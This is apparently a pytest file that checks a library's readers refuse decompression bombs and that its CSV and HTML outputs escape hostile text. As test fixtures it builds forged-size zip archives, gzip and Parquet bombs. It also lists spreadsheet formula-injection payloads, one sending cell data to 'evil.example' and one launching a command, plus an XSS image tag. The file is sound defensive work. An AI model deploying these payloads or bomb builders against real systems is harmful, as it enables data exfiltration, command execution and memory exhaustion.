"""Every reader is bounded by the file it reads (issue 42, point 6); text from files is
escaped in CSV outputs.

Each attack is a small crafted file that made a reader allocate gigabytes: a model,
block or checkpoint ``.npz`` whose zip directory declares more than the file holds, or
whose many small members inflate to 1.5 GiB; a party CSV whose header of 20,000
columns pandas fills over rows of one character; a Parquet file of 100 million rows of
one value; a ``.csv.gz`` or LIBSVM ``.gz`` bomb. Each is read in a subprocess whose
address space is limited to what it has after its imports plus :data:`HEADROOM` (on
today's code the reader runs out of it, or takes gigabytes; the test's machine never
gives them), and must be refused with a :class:`~hyfl.errors.HyflError` naming the file
and the way to raise the bound (``$HYFL_MAX_EXPANSION``, :func:`hyfl._io.decoded_cap`).

The CSV outputs (``predictions.csv``, ``summary.csv``, a neural ``summary.csv``,
``trials.csv``) are given names a hostile file can carry (``=HYPERLINK(...)``,
``@SUM(1)``, ``+cmd``) and must write them as text a spreadsheet does not run
(a leading ``'``, OWASP), while numbers (``-1``) stay numbers.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import struct
import subprocess
import sys
import textwrap
import zipfile

import numpy as np
import pytest

#: Address space a refused read may add beyond the subprocess's imports.
HEADROOM = 1 << 30
#: Peak resident memory a refused read may add.
RSS_GROWTH = 200 << 20


def read_bounded(call: str, setup: str = "") -> dict:
    """Run ``setup`` then ``call`` in a subprocess limited to its imports plus HEADROOM;
    its exception's type and text and its resident memory growth."""
    program = textwrap.dedent(f"""
        import json, resource
        {setup}
        def vm():
            for line in open("/proc/self/status"):
                if line.startswith("VmSize:"):
                    return int(line.split()[1]) * 1024
        limit = vm() + {HEADROOM}
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        try:
            {call}
            out = {{"error": None, "message": ""}}
        except BaseException as err:
            out = {{"error": type(err).__name__, "message": str(err)}}
        out["growth"] = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) * 1024
        print(json.dumps(out))
    """)
    # Arrow's and OpenBLAS's own reservations would count against the limit otherwise.
    env = {**os.environ, "ARROW_DEFAULT_MEMORY_POOL": "system", "OPENBLAS_NUM_THREADS": "1",
           "OMP_NUM_THREADS": "1"}
    run = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True,
                         env=env, timeout=600)
    assert run.stdout.strip(), run.stderr[-3000:]
    return json.loads(run.stdout.strip().splitlines()[-1])


def assert_refused(out: dict, *fragments: str) -> None:
    """The read raised a HyflError holding ``fragments``, with little memory."""
    assert out["error"] == "HyflError", out
    for fragment in fragments:
        assert fragment in out["message"], out["message"]
    assert out["growth"] < RSS_GROWTH, f"grew by {out['growth'] / 2**20:.0f} MiB"


# ----------------------------------------------------------------------------- .npz


def npy(shape, dtype="<f8") -> bytes:
    """An ``.npy`` header declaring ``shape`` (no data)."""
    out = io.BytesIO()
    np.lib.format.write_array_header_1_0(out, {"descr": dtype, "fortran_order": False,
                                               "shape": tuple(shape)})
    return out.getvalue()


def forge_sizes(path, member: str, shape) -> None:
    """Member ``member.npy`` of ``path`` stored with a header declaring ``shape`` over a
    megabyte of data, and zip sizes (directory and local header) that agree with the
    header: what the archive declares, not what it holds."""
    with zipfile.ZipFile(path) as old:
        kept = {i.filename: old.read(i) for i in old.infolist()
                if i.filename != f"{member}.npy"}
    header = npy(shape)
    with zipfile.ZipFile(path, "w") as new:
        for name, data in kept.items():
            new.writestr(name, data)
        new.writestr(f"{member}.npy", header + bytes(1 << 20))
    raw = bytearray(path.read_bytes())
    declared = len(header) + 8 * int(np.prod(shape))
    name = f"{member}.npy".encode()
    central = raw.find(b"PK\x01\x02")
    while central >= 0:  # the directory entry of this member
        length = struct.unpack_from("<H", raw, central + 28)[0]
        if raw[central + 46:central + 46 + length] == name:
            struct.pack_into("<II", raw, central + 20, declared, declared)
            local = struct.unpack_from("<I", raw, central + 42)[0]
            struct.pack_into("<II", raw, local + 18, declared, declared)
            break
        central = raw.find(b"PK\x01\x02", central + 4)
    path.write_bytes(bytes(raw))


def many_members(path, count: int = 1500) -> None:
    """``path`` with ``count`` more members, each a megabyte of zeros deflated to a
    kilobyte (each under the old per-member allowance; 1.5 GiB in all)."""
    data = npy((131056,)) + bytes(8 * 131056)  # exactly 1 MiB with its header
    assert len(data) == 1 << 20
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as z:
        for i in range(count):
            z.writestr(f"pad{i}.npy", data)
    assert path.stat().st_size < 3 << 20


@pytest.fixture(scope="module")
def model_file(tmp_path_factory):
    from hyfl.data import load_data
    from hyfl.model_file import model_from_problem, save_model
    from hyfl.problem import make_problem

    data = load_data("breast_cancer")
    problem = make_problem(data, "hinge", 1e-3)
    w = np.random.default_rng(0).normal(size=(problem.n_features, 1))
    return save_model(tmp_path_factory.mktemp("model") / "model.npz", model_from_problem(
        problem, w, data_meta=data.meta, algorithm="hyfdca", data="breast_cancer",
        data_y=data.y))


@pytest.fixture(scope="module")
def block_file(tmp_path_factory):
    from hyfl.data import load_data
    from hyfl.deploy.blocks import write_blocks
    from hyfl.partition import grid
    from hyfl.problem import make_problem

    problem = make_problem(load_data("breast_cancer"), "hinge", 1e-3)
    partition = grid(problem.n_samples, problem.n_features, 2, 2)
    return write_blocks(problem, partition, tmp_path_factory.mktemp("blocks"))[0]


def copy(path, tmp_path):
    target = tmp_path / path.name
    target.write_bytes(path.read_bytes())
    return target


def test_a_model_file_declaring_more_than_it_holds_is_refused_before_allocating(
        tmp_path, model_file):
    """1 MB whose directory declares 1.6 GB: read_npz allocated the 1.6 GB (1.56 GB
    resident) before finding the data short."""
    path = copy(model_file, tmp_path)
    forge_sizes(path, "weights", (200_000_000,))
    assert path.stat().st_size < 2 << 20
    out = read_bounded(f"load_model({str(path)!r})", "from hyfl.model_file import load_model")
    assert_refused(out, str(path), "past the file's end", "a forged size")


def test_a_block_file_declaring_more_than_it_holds_is_refused_before_allocating(
        tmp_path, block_file):
    path = copy(block_file, tmp_path)
    forge_sizes(path, "X_data", (200_000_000,))
    out = read_bounded(f"read_block({str(path)!r})", "from hyfl.deploy.blocks import read_block")
    assert_refused(out, str(path), "past the file's end")


def test_a_model_file_of_many_small_members_is_refused_unread(tmp_path, model_file):
    """1.5 MB of 1,500 deflated 1 MiB members: each passed the old per-member check and
    the reader inflated 1.5 GiB."""
    path = copy(model_file, tmp_path)
    many_members(path)
    out = read_bounded(f"load_model({str(path)!r})", "from hyfl.model_file import load_model")
    assert_refused(out, str(path), "'pad0.npy', which this kind of file never holds")


def test_an_npz_whose_members_inflate_beyond_its_size_is_refused(tmp_path):
    """Any .npz (a checkpoint's members are not known by name): the sizes its directory
    declares, 1.5 GiB in all, against 64 times its 1.5 MB."""
    path = tmp_path / "state.npz"
    np.savez(path, a=np.zeros(3))
    many_members(path)
    out = read_bounded(f"read_npz({str(path)!r}, 'checkpoint x', 'a checkpoint', 'Start over.')",
                       "from hyfl._io import read_npz")
    assert_refused(out, "checkpoint x", "would decode to 1,572", "HYFL_MAX_EXPANSION")


def test_npz_members_sharing_one_stream_are_refused(tmp_path):
    """Two directory entries pointing at one compressed stream (inflated once each)."""
    from hyfl._io import read_npz
    from hyfl.errors import HyflError

    path = tmp_path / "x.npz"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("a.npy", npy((2,)) + bytes(16))
        z.writestr("b.npy", npy((2,)) + bytes(16))
    raw = bytearray(path.read_bytes())
    second = raw.rfind(b"PK\x01\x02")
    struct.pack_into("<I", raw, second + 42, 0)  # b's entry -> a's local header
    path.write_bytes(bytes(raw))
    with pytest.raises(HyflError, match="overlaps another member"):
        read_npz(path, "file x", "a test file", "Fix it.")


def test_the_bound_is_raised_by_its_variable(tmp_path, monkeypatch):
    from hyfl._io import DECODED_RATIO_VARIABLE, decoded_cap, read_npz
    from hyfl.errors import HyflError

    path = tmp_path / "x.npz"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("a.npy", npy((4_000_000,)) + bytes(32_000_000))  # 32 MB from 30 kB
    with pytest.raises(HyflError, match=DECODED_RATIO_VARIABLE):
        read_npz(path, "file x", "a test file", "Fix it.")
    monkeypatch.setenv(DECODED_RATIO_VARIABLE, "2000")
    assert decoded_cap(1) == 2000 + (16 << 20)
    assert read_npz(path, "file x", "a test file", "Fix it.")["a"].shape == (4_000_000,)
    monkeypatch.setenv(DECODED_RATIO_VARIABLE, "many")
    with pytest.raises(HyflError, match="not a positive whole number"):
        decoded_cap(1)


# ----------------------------------------------------------------------------- tables


def test_a_party_csv_whose_header_pandas_fills_is_refused(tmp_path):
    """153 kB: 20,001 columns over 5,000 one-number rows; 5.1 GB resident before."""
    path = tmp_path / "bank.csv"
    path.write_text("id," + ",".join(f"c{i}" for i in range(20000)) + "\n"
                    + "".join(f"{i}\n" for i in range(5000)))
    assert path.stat().st_size < 160_000
    out = read_bounded(f"read_party_file({str(path)!r}, party='bank')",
                       "from hyfl.data.parties import read_party_file")
    assert_refused(out, str(path), "20001 columns x", "HYFL_MAX_EXPANSION")


def test_a_gzipped_party_csv_bomb_is_refused_while_it_streams(tmp_path):
    """A .csv.gz of 400 MB of rows deflated to about a megabyte."""
    path = tmp_path / "bank.csv.gz"
    with gzip.open(path, "wb", compresslevel=9) as f:
        f.write(b"id,x\n")
        chunk = b"1,0\n" * (1 << 20)
        for _ in range(100):
            f.write(chunk)
    assert path.stat().st_size < 2 << 20
    out = read_bounded(f"read_party_file({str(path)!r}, party='bank')",
                       "from hyfl.data.parties import read_party_file")
    assert_refused(out, str(path), "would decode to")


def parquet_bomb(path, rows_per_group: int = 1_000_000, groups: int = 100) -> None:
    """100 million rows of zeros in under a megabyte (run-length encoded, compressed)."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pa.table({"id": pa.array(np.zeros(rows_per_group, dtype=np.int64)),
                      "x": pa.array(np.zeros(rows_per_group))})
    with pq.ParquetWriter(path, table.schema, compression="zstd") as writer:
        for _ in range(groups):
            writer.write_table(table)


def test_a_party_parquet_of_one_repeated_value_is_refused_from_its_metadata(tmp_path):
    """870 kB declaring 100 million rows: 10 GB resident before."""
    path = tmp_path / "bank.parquet"
    parquet_bomb(path)
    assert path.stat().st_size < 2 << 20
    out = read_bounded(f"read_party_file({str(path)!r}, party='bank')",
                       "from hyfl.data.parties import read_party_file")
    assert_refused(out, str(path), "100,000,000 rows x 2 columns")


def test_parquet_strings_are_counted_dictionary_encoded(tmp_path):
    """One 1 MB id repeated 100,000 times: the metadata's sizes look small, the decoded
    strings are 100 GB. Counted from each distinct value once, before decoding."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    from hyfl._io import read_parquet
    from hyfl.errors import HyflError

    path = tmp_path / "ids.parquet"
    ids = pa.DictionaryArray.from_arrays(pa.array(np.zeros(100_000, dtype=np.int32)),
                                         pa.array(["i" * (1 << 20)]))
    pq.write_table(pa.table({"id": ids}), path, compression="zstd")
    assert path.stat().st_size < 1 << 20
    with pytest.raises(HyflError, match="string values included"):
        read_parquet(path, "party file ids", "Fix it.")
    # A genuine file reads as pandas would.
    pq.write_table(pa.table({"id": ["a", "b"], "x": [1.0, -2.0]}), tmp_path / "ok.parquet")
    frame = read_parquet(tmp_path / "ok.parquet", "party file ok", "")
    assert frame["id"].tolist() == ["a", "b"] and frame["x"].tolist() == [1.0, -2.0]


def test_a_libsvm_gzip_bomb_is_refused_while_it_streams(tmp_path):
    """600 MB of one-feature samples in about a megabyte of .gz."""
    path = tmp_path / "data.libsvm.gz"
    with gzip.open(path, "wb", compresslevel=9) as f:
        chunk = b"1 1:1\n" * (1 << 20)
        for _ in range(100):
            f.write(chunk)
    assert path.stat().st_size < 2 << 20
    out = read_bounded(f"load_libsvm({str(path)!r})",
                       "import sklearn.datasets; from hyfl.data.loaders import load_libsvm")
    assert_refused(out, str(path), "would decode to")


def test_a_gzip_without_its_suffix_is_bounded_too(tmp_path):
    """Downloads keep their names (covtype.data may be gzipped): found by its magic bytes."""
    from hyfl._io import open_bounded
    from hyfl.errors import HyflError

    path = tmp_path / "covtype.data"
    with gzip.open(path, "wb", compresslevel=9) as f:
        f.write(bytes(64 << 20))
    with pytest.raises(HyflError, match="would decode to"), \
            open_bounded(path, "Covtype file x", "Fix it.") as stream:
        while stream.read(1 << 20):
            pass


def test_a_results_metrics_csv_whose_header_pandas_fills_is_refused(tmp_path):
    """A results folder from someone else: 300 kB of metrics.csv, 16 GB as a table."""
    path = tmp_path / "metrics.csv"
    path.write_text(",".join(f"c{i}" for i in range(20000)) + "\n" + "1\n" * 100_000)
    out = read_bounded(f"_read_metrics(pathlib.Path({str(path)!r}))",
                       "import pathlib; from hyfl.experiments.results import _read_metrics")
    assert_refused(out, str(path), "20000 columns x")


# ----------------------------------------------------------------------------- CSV outputs

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1)", "+cmd|' /C calc'!A0",
           "-2+3", "\t=1"]


def cells(path) -> list[list[str]]:
    with open(path, newline="") as f:
        return list(csv.reader(f))


def assert_inert(text: str) -> None:
    assert not text.startswith(("=", "+", "-", "@", "\t", "\r")), text


def test_predictions_csv_escapes_hostile_class_names(tmp_path):
    """Class labels (and the score columns named after them) come from the data's file."""
    from hyfl.predict import write_predictions

    out = write_predictions(tmp_path / "predictions.csv", np.array(HOSTILE, dtype=object),
                            [f"{c}" for c in HOSTILE], np.zeros((len(HOSTILE), len(HOSTILE))))
    rows = cells(out)
    for text in rows[0][2:] + [row[1] for row in rows[1:]]:
        assert_inert(text)
    assert rows[1][1] == "'" + HOSTILE[0]  # the text itself is kept, after the quote
    # Numbers stay numbers: -1/+1 labels and scores read back as numbers.
    out = write_predictions(tmp_path / "numbers.csv", np.array([-1.0, 1.0]), ["score_-1"],
                            np.array([[-0.5], [0.25]]))
    assert [row[1:] for row in cells(out)[1:]] == [["-1", "-0.5"], ["1", "0.25"]]


def test_summary_csv_escapes_hostile_names(tmp_path, monkeypatch):
    """An algorithm's or data set's name in summary.csv (a results folder's rows)."""
    from hyfl.experiments import outputs

    row = dict.fromkeys(outputs.SUMMARY_COLUMNS, -1.5)
    row.update(algorithm=HOSTILE[0], engine=HOSTILE[1])
    monkeypatch.setattr(outputs, "summary_rows", lambda outcomes: [row])
    outputs.write_comparison([], tmp_path)
    written = cells(tmp_path / "summary.csv")
    header, values = written[0], dict(zip(written[0], written[1], strict=True))
    assert values["algorithm"] == "'" + HOSTILE[0] and values["engine"] == "'" + HOSTILE[1]
    assert values[header[1]] == "-1.5"  # a numeric cell is untouched


def test_neural_summary_csv_escapes_hostile_names(tmp_path, monkeypatch):
    from hyfl.neural import runner

    row = dict.fromkeys(runner.SUMMARY_COLUMNS, 0.5)
    row[runner.SUMMARY_COLUMNS[0]] = HOSTILE[1]
    monkeypatch.setattr(runner, "summary_rows", lambda outcomes: [row])
    runner.write_comparison([], tmp_path)
    assert cells(tmp_path / "summary.csv")[1][0] == "'" + HOSTILE[1]


def test_trials_csv_escapes_a_hostile_error_text(tmp_path):
    """A trial's error quotes names from the data's files."""
    from hyfl.experiments.tuning import _write_trials

    trial = {"index": 0, "divergent": False, "grade": 0.5, "wall_seconds": 1.0, "hyper": {},
             "metrics": {}, "error": HOSTILE[2]}
    _write_trials(tmp_path, [trial], {})
    written = cells(tmp_path / "trials.csv")
    assert written[1][written[0].index("error")] == "'" + HOSTILE[2]


def test_the_html_report_escapes_hostile_names(tmp_path):
    """A data set's or algorithm's name in report.html: text, never markup (html.escape)."""
    from hyfl.experiments.report import _html, _Para, _Table

    hostile = '<img src=x onerror="alert(1)">'
    page = _html([_Para(hostile), _Table([hostile], [[(hostile, True)]], note=hostile)],
                 tmp_path, hostile)
    assert "<img src=x" not in page and "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in page
